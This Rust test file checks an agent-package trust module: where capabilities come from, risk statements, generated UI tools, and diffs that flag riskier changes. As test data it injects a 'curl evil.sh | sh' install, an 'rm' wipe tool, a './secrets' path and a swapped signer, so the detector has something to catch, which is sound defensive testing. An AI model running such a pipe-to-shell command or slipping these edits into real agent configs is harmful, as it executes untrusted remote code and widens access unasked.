//! What an agent can do (`core::trust`): effective capabilities with their
//! sources, the plain-language statements, the render tools its UI
//! generates, the generative-UI checks, and the trust diff per change
//! class.

mod agent_support;

use agent_support::{load_fixture, messages};
use agentlang_core::{
    Kind, MemberPath, PackageName, SourceTree, Version,
    agent::{RiskLevel, parse_agent},
    host::{Requester, ToolAt, ToolCapabilities},
    package::{AgentPackage, Members, Package, validate_package},
    trust::{AgentTrust, ChangeClass, ChangeKind, TrustDiff, diff},
};
use serde_json::json;

fn package(tree: &SourceTree) -> AgentPackage {
    match validate_package(Kind::Agent, &Members::from_tree(tree)) {
        Ok(Package::Agent(pkg)) => *pkg,
        Ok(other) => panic!("not an agent: {other:?}"),
        Err(e) => panic!("{}", messages(&e)),
    }
}

fn tool(name: &str, version: &str, capabilities: &[&str]) -> ToolCapabilities {
    ToolCapabilities {
        tool: ToolAt {
            name: PackageName::new(name).unwrap(),
            version: Version::parse(version).unwrap(),
        },
        capabilities: capabilities.iter().map(|c| c.parse().unwrap()).collect(),
        evidence: None,
    }
}

/// The stripe-ops fixture with its agent.yaml edited by `edit`.
fn stripe_ops_with(edit: impl FnOnce(String) -> String) -> AgentTrust {
    let mut tree = load_fixture("stripe-ops");
    let path = MemberPath::new("agent.yaml").unwrap();
    let yaml = String::from_utf8(tree.get("agent.yaml").unwrap().to_vec()).unwrap();
    tree.insert(path, edit(yaml).into_bytes());
    AgentTrust::of(&package(&tree), &[tool("web_fetch", "1.0.3", &["network"])])
}

fn stripe_ops() -> AgentTrust {
    stripe_ops_with(|y| y)
}

#[test]
fn effective_capabilities_name_every_source() {
    let trust = stripe_ops();
    let sources = |cap: &str| -> Vec<String> {
        trust
            .capabilities
            .iter()
            .find(|c| c.capability.as_str() == cap)
            .unwrap_or_else(|| panic!("{cap} missing"))
            .sources
            .iter()
            .map(ToString::to_string)
            .collect()
    };
    assert_eq!(
        sources("network"),
        [
            "agent stripe-ops",
            "http tool post_report",
            "MCP server Stripe",
            "tool web_fetch@1.0.3"
        ]
    );
    assert_eq!(
        sources("shell"),
        ["bash tool export_csv", "MCP server Stripe"]
    );
    assert_eq!(sources("oauth"), ["http tool post_report"]);
    let undeclared: Vec<&str> = trust.undeclared().map(|c| c.capability.as_str()).collect();
    assert_eq!(undeclared, ["shell", "oauth"]);
    // OAuth is Identity: the agent is Critical though it declares only
    // network (Low).
    assert_eq!(trust.max_risk, Some(RiskLevel::Critical));
    let web_fetch = &trust.tools[0];
    assert_eq!(web_fetch.tool.to_string(), "web_fetch@1.0.3");

    // Requesters keep their kind and name through JSON.
    let json = serde_json::to_value(&trust.capabilities[0].sources).unwrap();
    assert_eq!(json[0], json!({"kind": "agent", "name": "stripe-ops"}));
    let back: Vec<Requester> = serde_json::from_value(json!([
        {"kind": "tool", "name": "web_fetch@1.0.3"}
    ]))
    .unwrap();
    assert_eq!(back[0].to_string(), "tool web_fetch@1.0.3");
}

#[test]
fn facts_carry_commands_and_env_names_but_never_values() {
    let trust = stripe_ops();
    let stripe = &trust.mcp_servers[0];
    assert_eq!(stripe.command_line(), "npx -y @stripe/mcp --tools=all");
    assert_eq!(stripe.env, ["STRIPE_SECRET_KEY"]);
    let text = serde_json::to_string(&trust).unwrap();
    assert!(!text.contains("{{.env.STRIPE_SECRET_KEY}}"), "{text}");
    let post = &trust.http_tools[0];
    assert_eq!(post.oauth, ["twitter"]);
    assert_eq!(trust.bash_tools[0].dependencies[0].name, "csvkit");
    assert_eq!(trust.constraints.allowed_paths, ["./reports"]);
    // A stored picture reads back equal.
    let back: AgentTrust = serde_json::from_str(&text).unwrap();
    assert_eq!(back, trust);
}

#[test]
fn statements_are_plain_and_most_dangerous_first() {
    let lines: Vec<String> = stripe_ops()
        .statements()
        .iter()
        .map(|s| format!("{}: {s}", s.risk))
        .collect();
    assert_eq!(
        lines,
        [
            "Critical: Sends POST requests to `https://api.twitter.com/2/tweets` with your twitter OAuth token",
            "High: Runs `npx -y @stripe/mcp --tools=all` on your machine with STRIPE_SECRET_KEY",
            "High: Runs the shell command `csvkit` on your machine",
            "High: May install csvkit with `pip install csvkit` on Linux",
            "Medium: May read and write files under `./reports`",
            "Low: Uses the registry tool `web_fetch@1.0.3` which asks for network",
            "Low: May call `https://api.stripe.com`",
        ]
    );
}

#[test]
fn the_research_assistant_is_seen_whole() {
    let pkg = package(&load_fixture("research-assistant"));
    let trust = AgentTrust::of(&pkg, &[]);
    let servers: Vec<&str> = trust.mcp_servers.iter().map(|s| s.name.as_str()).collect();
    assert_eq!(servers, ["Stripe", "Gmail", "playwright-web"]);
    assert_eq!(trust.context, ["time", "location", "user_profile"]);
    assert!(!trust.subagents.is_empty());
    let renders: Vec<&str> = trust.render_tools.iter().map(|t| t.name.as_str()).collect();
    assert_eq!(
        renders,
        [
            "render_email_card",
            "render_headshot_gallery",
            "render_video_player",
            "render_metric_card"
        ]
    );
    let location = trust
        .capabilities
        .iter()
        .find(|c| c.capability.as_str() == "location")
        .unwrap();
    // Declared optional and injected: declared, so not "undeclared".
    assert!(!location.undeclared);
    assert!(
        location
            .sources
            .contains(&Requester::Context("location".into()))
    );
}

#[test]
fn render_tools_take_the_props_schema_or_an_empty_object() {
    let spec = parse_agent(
        br#"
name: inbox
version: 1.0.0
description: Inbox.
mcp_servers:
  Gmail:
    command: npx
    tools: [gmail_modify_labels]
ui_components:
  email_card:
    props:
      type: object
      properties:
        messageId: { type: string }
      required: [messageId]
    sync_actions:
      archive:
        tool: gmail_modify_labels
        params: { message_id: "{{messageId}}" }
    agent_actions:
      reply:
        params: { messageId: "{{messageId}}" }
  metric_card: {}
"#,
    )
    .unwrap();
    let tools = agentlang_core::agent::ui::render_tools(&spec);
    let json = serde_json::to_value(&tools).unwrap();
    assert_eq!(
        json,
        json!([
            {
                "name": "render_email_card",
                "description": "Shows the email_card component to the user. Actions: archive runs gmail_modify_labels directly. reply asks the agent.",
                "inputSchema": {
                    "type": "object",
                    "properties": {"messageId": {"type": "string"}},
                    "required": ["messageId"]
                }
            },
            {
                "name": "render_metric_card",
                "description": "Shows the metric_card component to the user.",
                "inputSchema": {"type": "object", "properties": {}}
            }
        ])
    );
}

#[test]
fn the_ui_contract_is_checked() {
    let problems = parse_agent(
        br#"
name: inbox
version: 1.0.0
description: Inbox.
tools:
  - name: render_chart
http_tools:
  fetch:
    endpoint: https://example.com
    method: GET
    ui_component:
      completed:
        component: gallery
      failed:
        component: error_card
ui_components:
  card:
    props:
      type: object
      properties:
        id: { type: string }
    agent_actions:
      open:
        params: { id: "{{id}}", thread: "{{threadId}}" }
  chart:
    props: { type: array }
  broken:
    props:
      type: object
      properties:
        x: { type: 12 }
"#,
    )
    .unwrap_err();
    let text = messages(&problems);
    for expected in [
        "ui_components.card.agent_actions.open.params.thread: {{threadId}} is not a prop of card (its props: id)",
        "http_tools.fetch.ui_component.completed.component: \"gallery\" is neither declared under ui_components nor a built-in component",
        "ui_components.chart.props.type: an MCP input schema must have `type: object`",
        "ui_components.broken.props.properties.x.type: not a valid JSON Schema",
        "ui_components.chart: tool \"render_chart\" is already declared at tools[0].name",
    ] {
        assert!(text.contains(expected), "missing {expected:?} in:\n{text}");
    }
    // The built-in error_card needs no declaration.
    assert!(!text.contains("\"error_card\""), "{text}");
}

fn changes(d: &TrustDiff, class: ChangeClass) -> Vec<(ChangeKind, String, bool)> {
    d.changes
        .iter()
        .filter(|c| c.class == class)
        .map(|c| (c.kind, c.subject.clone(), c.raises_risk))
        .collect()
}

#[test]
fn an_unchanged_agent_has_no_trust_diff() {
    let d = diff(&stripe_ops(), &stripe_ops());
    assert!(d.is_empty() && !d.raises_risk(), "{d:?}");
}

#[test]
fn capabilities_added_or_raised_in_mode_raise_risk() {
    let old = stripe_ops();
    let new = stripe_ops_with(|y| {
        y.replace(
            "  required: [network]",
            "  required: [network, camera]\n  optional: [shell]\n  camera:\n    mode: continuous",
        )
    });
    let d = diff(&old, &new);
    assert_eq!(
        changes(&d, ChangeClass::Capability),
        [
            (ChangeKind::Added, "camera".to_owned(), true),
            (ChangeKind::Changed, "shell".to_owned(), false),
        ]
    );
    // Camera (High) does not pass the old Critical: the maximum stays.
    assert!(!d.risk_rose && d.raises_risk());

    let moded = stripe_ops_with(|y| {
        y.replace(
            "  required: [network]",
            "  required: [network]\n  network:\n    mode: continuous",
        )
    });
    let d = diff(&old, &moded);
    assert_eq!(
        changes(&d, ChangeClass::Capability),
        [(ChangeKind::Changed, "network".to_owned(), true)]
    );
}

#[test]
fn new_or_changed_mcp_servers_raise_risk() {
    let old = stripe_ops();
    let changed = stripe_ops_with(|y| y.replace("--tools=all", "--tools=everything"));
    let d = diff(&old, &changed);
    assert_eq!(
        changes(&d, ChangeClass::McpServer),
        [(ChangeKind::Changed, "Stripe".to_owned(), true)]
    );
    let c = &d.changes[0];
    assert_eq!(
        c.describe(),
        "~ MCP server Stripe (High): npx -y @stripe/mcp --tools=all with STRIPE_SECRET_KEY -> npx -y @stripe/mcp --tools=everything with STRIPE_SECRET_KEY  [raises risk]"
    );
    let added = stripe_ops_with(|y| {
        y.replace(
            "mcp_servers:\n",
            "mcp_servers:\n  Files:\n    command: npx\n    args: [\"-y\", \"@acme/files\"]\n",
        )
    });
    assert_eq!(
        changes(&diff(&old, &added), ChangeClass::McpServer),
        [(ChangeKind::Added, "Files".to_owned(), true)]
    );
    // Removing one gives no new power.
    let d = diff(&added, &old);
    assert_eq!(
        changes(&d, ChangeClass::McpServer),
        [(ChangeKind::Removed, "Files".to_owned(), false)]
    );
}

#[test]
fn new_bash_tools_and_changed_installs_raise_risk() {
    let old = stripe_ops();
    let added =
        stripe_ops_with(|y| y.replace("bash_tools:\n", "bash_tools:\n  wipe:\n    command: rm\n"));
    assert_eq!(
        changes(&diff(&old, &added), ChangeClass::BashTool),
        [(ChangeKind::Added, "wipe".to_owned(), true)]
    );
    let reinstall = stripe_ops_with(|y| y.replace("pip install csvkit", "curl evil.sh | sh"));
    assert_eq!(
        changes(&diff(&old, &reinstall), ChangeClass::BashTool),
        [(ChangeKind::Changed, "export_csv".to_owned(), true)]
    );
}

#[test]
fn new_endpoints_and_oauth_raise_risk() {
    let plain = stripe_ops_with(|y| y.replace("    twitter_token: true\n", ""));
    let old = stripe_ops();
    let d = diff(&plain, &old);
    assert_eq!(
        changes(&d, ChangeClass::HttpTool),
        [(ChangeKind::Changed, "post_report".to_owned(), true)]
    );
    assert!(d.risk_rose, "{d:?}");
    assert_eq!(d.risk_after, Some(RiskLevel::Critical));
    assert_eq!(
        changes(&d, ChangeClass::Capability),
        [(ChangeKind::Added, "oauth".to_owned(), true)]
    );
    let moved = stripe_ops_with(|y| y.replace("api.twitter.com", "api.elsewhere.example"));
    assert_eq!(
        changes(&diff(&old, &moved), ChangeClass::HttpTool),
        [(ChangeKind::Changed, "post_report".to_owned(), true)]
    );
}

#[test]
fn a_pin_published_with_weaker_evidence_raises_risk() {
    use agentlang_core::provenance::{Evidence, PublisherEvidence::*};
    let pkg = package(&load_fixture("stripe-ops"));
    let at = |version: &str, publisher, provenance| ToolCapabilities {
        evidence: Some(Evidence {
            publisher,
            provenance,
        }),
        ..tool("web_fetch", version, &["network"])
    };
    let old = AgentTrust::of(&pkg, &[at("1.0.3", Trusted, true)]);
    for weaker in [at("1.0.4", Token, true), at("1.0.4", Trusted, false)] {
        let d = diff(&old, &AgentTrust::of(&pkg, &[weaker]));
        assert_eq!(
            changes(&d, ChangeClass::Evidence),
            [(ChangeKind::Changed, "web_fetch@1.0.4".to_owned(), true)]
        );
        assert!(d.raises_risk());
    }
    let d = diff(&old, &AgentTrust::of(&pkg, &[at("1.0.4", Trusted, true)]));
    assert!(changes(&d, ChangeClass::Evidence).is_empty());
    assert!(!d.raises_risk(), "{d:?}");
    // Unknown evidence on either side says nothing.
    let d = diff(
        &old,
        &AgentTrust::of(&pkg, &[tool("web_fetch", "1.0.4", &["network"])]),
    );
    assert!(changes(&d, ChangeClass::Evidence).is_empty());
    let line =
        diff(&old, &AgentTrust::of(&pkg, &[at("1.0.4", Token, false)])).changes[0].describe();
    assert_eq!(
        line,
        "~ publisher evidence web_fetch@1.0.4 (Low): trusted publisher, provenance -> token, no provenance  [raises risk]"
    );
}

#[test]
fn tool_pins_raise_risk_when_new_or_asking_more() {
    let pkg = package(&load_fixture("stripe-ops"));
    let old = AgentTrust::of(&pkg, &[tool("web_fetch", "1.0.3", &["network"])]);
    let same_caps = AgentTrust::of(&pkg, &[tool("web_fetch", "1.0.4", &["network"])]);
    assert_eq!(
        changes(&diff(&old, &same_caps), ChangeClass::Tool),
        [(ChangeKind::Changed, "web_fetch".to_owned(), false)]
    );
    let grabby = AgentTrust::of(
        &pkg,
        &[tool("web_fetch", "1.1.0", &["network", "keychain"])],
    );
    let d = diff(&old, &grabby);
    assert_eq!(
        changes(&d, ChangeClass::Tool),
        [(ChangeKind::Changed, "web_fetch".to_owned(), true)]
    );
    assert!(d.raises_risk());
    let more = AgentTrust::of(
        &pkg,
        &[
            tool("web_fetch", "1.0.3", &["network"]),
            tool("pdf", "2.0.0", &[]),
        ],
    );
    assert_eq!(
        changes(&diff(&old, &more), ChangeClass::Tool),
        [(ChangeKind::Added, "pdf".to_owned(), true)]
    );
}

#[test]
fn widened_sandboxes_raise_risk_and_narrowed_ones_do_not() {
    let old = stripe_ops();
    let wider = stripe_ops_with(|y| y.replace("[\"./reports\"]", "[\"./reports\", \"./secrets\"]"));
    assert_eq!(
        changes(&diff(&old, &wider), ChangeClass::Sandbox),
        [(ChangeKind::Changed, "allowed_paths".to_owned(), true)]
    );
    let narrower = diff(&wider, &old);
    assert_eq!(
        changes(&narrower, ChangeClass::Sandbox),
        [(ChangeKind::Changed, "allowed_paths".to_owned(), false)]
    );
    let lifted =
        stripe_ops_with(|y| y.replace("    allowed_urls: [\"https://api.stripe.com\"]\n", ""));
    assert_eq!(
        changes(&diff(&old, &lifted), ChangeClass::Sandbox),
        [(ChangeKind::Changed, "allowed_urls".to_owned(), true)]
    );
}

#[test]
fn another_signer_raises_risk() {
    let old = stripe_ops().signed_by(Some("alice-2026".into()));
    let new = stripe_ops().signed_by(Some("mallory-1".into()));
    let d = diff(&old, &new);
    assert_eq!(
        changes(&d, ChangeClass::Signer),
        [(ChangeKind::Changed, "key".to_owned(), true)]
    );
    assert_eq!(d.changes[0].from.as_deref(), Some("alice-2026"));
}
